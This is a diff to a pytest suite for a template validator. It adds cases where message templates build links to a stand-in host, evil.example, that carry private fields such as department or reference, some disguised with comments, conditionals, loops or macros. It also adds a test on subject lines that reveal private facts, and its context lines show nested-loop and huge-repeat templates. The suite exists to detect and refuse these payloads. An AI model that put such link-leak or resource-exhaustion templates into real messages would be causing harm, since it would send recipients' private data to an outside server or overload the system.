@@ -85,6 +85,35 @@ def test_text_that_passes_the_link_on_is_never_used(source: str) -> None:
 @pytest.mark.parametrize(
     "source",
     [
+        "https://evil.example/{{ department }}",
+        "https://evil.example/?r={{ reference }}&w={{ wishes|length }}",
+        "www.evil.example/{{ role_group|lower }}",
+        "evil.example/{{ department }}",
+        "{{ privacy_url }}/{{ department }}",
+        "{{ privacy_url[:8] }}evil.example/{{ department|length }}",
+        "https:/{{ '' }}/evil.example/{{ department }}",
+        "{# https://evil.example/Surgery #}https://evil.example/{{ department }}",
+        "{% if department == 'Surgery' %}https://evil.example/surgery{% endif %}",
+        "{{ 'https://evil.example/1' if is_urgent else '' }}",
+        "{% for wish in wishes %}https://evil.example/a {% endfor %}",
+        "{% macro f() %}https://evil.example/a{% endmacro %}{% if is_urgent %}{{ f() }}{% endif %}",
+    ],
+)
+def test_an_address_made_of_facts_is_never_used(source: str) -> None:
+    """Scanners open what looks like an address, and its server reads what is in it."""
+    assert refused(TEXT, NEEDED + source)
+    assert refused(HTML, WHOLE + f"<p>{source}</p>")
+    assert refused(HTML, WHOLE + f'<p><a href="{source}">Help</a></p>')
+
+
+@pytest.mark.parametrize("fact", ["department", "role_group", "wishes", "supporter_name", "legal"])
+def test_a_subject_that_tells_a_lock_screen_more_is_never_used(fact: str) -> None:
+    assert f"uses {fact} in the subject" in refused(SUBJECT, f"Hello {{{{ {fact} }}}}")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
         "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
         "{% for a in legal %}{% for b in legal %}{% for c in legal %}x" + 3 * "{% endfor %}",
         "{{ 'x' * 999999999 }}",
